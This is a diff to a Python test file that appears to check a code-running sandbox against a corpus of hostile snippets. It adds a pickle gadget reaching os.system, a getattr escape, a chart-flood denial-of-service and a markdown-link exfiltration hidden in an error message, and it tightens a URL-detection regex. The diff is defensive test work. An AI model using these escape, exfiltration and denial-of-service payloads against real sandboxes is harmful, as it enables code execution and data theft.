@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 
 import pytest
 
@@ -42,6 +43,8 @@ CORPUS: list[tuple[str, str, str]] = [
     ("gadget", "class-mro", "print(pd.DataFrame.mro()[-1])"),
     ("gadget", "px-data", "print(px.data.iris())"),
     ("gadget", "groupby-obj", "print(data['t1'].groupby('qid').obj)"),
+    ("gadget", "numpy-lib-pickle", "print(np.lib.npyio.pickle.loads(b'cos\\nsystem\\n.'))"),
+    ("gadget", "getattr-through-map", "print(list(map(getattr, [1], ['__class__'])))"),
     # --- library evaluators
     ("evaluator", "df-eval", "print(data['t1'].eval('(1).__class__.__base__.__subclasses__()'))"),
     ("evaluator", "pd-eval", "print(pd.eval('1+1'))"),
@@ -92,6 +95,8 @@ CORPUS: list[tuple[str, str, str]] = [
     ("dos", "keyboard-interrupt", "raise KeyboardInterrupt"),
     ("dos", "lapack-spin", "print(np.linalg.eigvals(np.random.default_rng(0).random((4000, 4000))))"),
     ("dos", "threads", "import threading\nthreading.Thread(target=print).start()"),
+    ("dos", "reply-flood", "x = np.arange(150_000)\n"
+                           "result = {'chart': [go.Figure(go.Scattergl(x=x, y=x * 1.5)) for i in range(8)]}"),
     ("dos", "huge-figure", "x = np.arange(3_000_000)\n"
                            "result = {'chart': go.Figure(go.Scattergl(x=x, y=x * 1.5))}"),
     # --- host state poisoning
@@ -113,6 +118,7 @@ CORPUS: list[tuple[str, str, str]] = [
     ("exfil", "css-url", "fig = go.Figure(go.Scatter(x=[1], y=[1], text=['<span style=\"background:url(x)\">a</span>']))"
                          "\nresult = {'chart': fig}"),
     ("exfil", "markdown-image", "print('![chart](http://127.0.0.1:PORT/leak?k=1)')"),
+    ("exfil", "link-in-error", "raise ValueError('![x](http://127.0.0.1:PORT/leak?k=1)')"),
     ("exfil", "proto-key", "result = {'chart': {'data': [], 'layout': {'__proto__': {'polluted': 1}}}}"),
 ]
 
@@ -148,7 +154,7 @@ def test_hostile_snippet_is_contained(kind, name, code, planted, store):
     assert planted.hits == [], f"{name} reached the loopback listener"
     assert result.charts == [], f"{name} produced a chart that passed validation"
     if kind == "exfil":
-        assert "://" not in result.output, "a URL survived in the printed text"
+        assert not re.search(r"[A-Za-z]+://\w", result.output + result.error), "a URL survived in the text"
 
 
 def test_app_process_is_unharmed_after_the_corpus(planted, store):
